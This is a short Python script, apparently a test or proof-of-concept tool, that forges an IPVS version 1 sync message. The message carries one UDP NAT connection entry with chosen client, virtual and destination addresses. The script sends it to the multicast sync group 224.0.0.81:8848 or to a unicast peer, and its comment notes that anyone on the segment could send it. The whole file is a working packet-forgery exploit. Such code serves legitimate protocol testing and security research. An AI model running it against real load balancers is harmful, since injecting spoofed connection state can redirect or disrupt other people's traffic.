#!/usr/bin/env python3
# SPDX-License-Identifier: GPL-2.0
#
# A forged sync message: IPVS's version 1 with one UDP entry (NAT,
# established, 300 s), sent to the sync group as anyone on the segment
# could send it, or to a unicast peer TO.
#
#   sync_forge.py LOCAL SYNCID CADDR:CPORT VADDR:VPORT DADDR:DPORT [TO]
#
# LOCAL: the address whose interface the datagram leaves by.
import socket
import struct
import sys


def ep(s):
    a, p = s.rsplit(":", 1)
    return socket.inet_aton(a), int(p)


def main(argv):
    local, syncid = argv[1], int(argv[2])
    (c, cp), (v, vp), (d, dp) = ep(argv[3]), ep(argv[4]), ep(argv[5])
    entry = struct.pack("!BBHIHHHHII", 0, socket.IPPROTO_UDP, 36, 0, 0,
                        cp, vp, dp, 0, 300) + c + v + d
    size = 8 + len(entry)
    msg = struct.pack("!BBHBBH", 0, syncid, size, 1, 1, 0) + entry
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_IF, socket.inet_aton(local))
    s.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_TTL, 1)
    s.sendto(msg, (argv[6] if len(argv) > 6 else "224.0.0.81", 8848))


if __name__ == "__main__":
    main(sys.argv)
